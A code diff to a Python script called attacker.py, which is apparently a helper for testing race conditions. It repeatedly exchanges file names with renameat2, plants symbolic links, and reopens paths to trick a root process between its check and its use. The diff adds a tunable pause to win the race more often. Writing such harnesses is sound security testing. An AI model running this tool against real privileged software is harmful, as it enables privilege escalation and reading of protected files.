@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """Exchanges names in a loop, as somebody would who wants to trick root between two looks.
 
-    attacker.py swap A B            renameat2(A, B, RENAME_EXCHANGE), over and over
+    attacker.py swap A B [PAUSE]    renameat2(A, B, RENAME_EXCHANGE), over and over, with a pause in microseconds: one as
+                                    long as root needs between its two looks wins most often
     attacker.py plant TARGET NAME   puts a symbolic link to TARGET in NAME's place, and back, over and over
     attacker.py hold NAME           opens what is at NAME whenever it can be opened, and prints what it could read
 
@@ -25,9 +26,15 @@ def exchange(a, b):
     return libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0
 
 
-def swap(a, b):
-    a, b = os.fsencode(a), os.fsencode(b)
-    return lambda: exchange(a, b)
+def swap(a, b, pause="0"):
+    a, b, pause = os.fsencode(a), os.fsencode(b), int(pause) / 1e6
+
+    def once():
+        if pause:
+            time.sleep(pause)
+        return exchange(a, b)
+
+    return once
 
 
 def plant(target, name):
@@ -66,9 +73,9 @@ def hold(name):
 
 
 def main():
-    ways = {"swap": (swap, 2), "plant": (plant, 2), "hold": (hold, 1)}
-    way, count = ways.get(sys.argv[1] if len(sys.argv) > 1 else "", (None, 0))
-    if way is None or len(sys.argv) != 2 + count:
+    ways = {"swap": (swap, (2, 3)), "plant": (plant, (2,)), "hold": (hold, (1,))}
+    way, counts = ways.get(sys.argv[1] if len(sys.argv) > 1 else "", (None, ()))
+    if len(sys.argv) - 2 not in counts:
         sys.exit(__doc__)
     stopped = []
     signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
@@ -77,7 +84,9 @@ def main():
     done = 0
     while not stopped and time.monotonic() < until:
         # The clock is asked rarely: the loop is to be fast.
-        for _ in range(200):
+        for _ in range(100):
+            if stopped:
+                break
             try:
                 done += bool(once())
             except OSError:
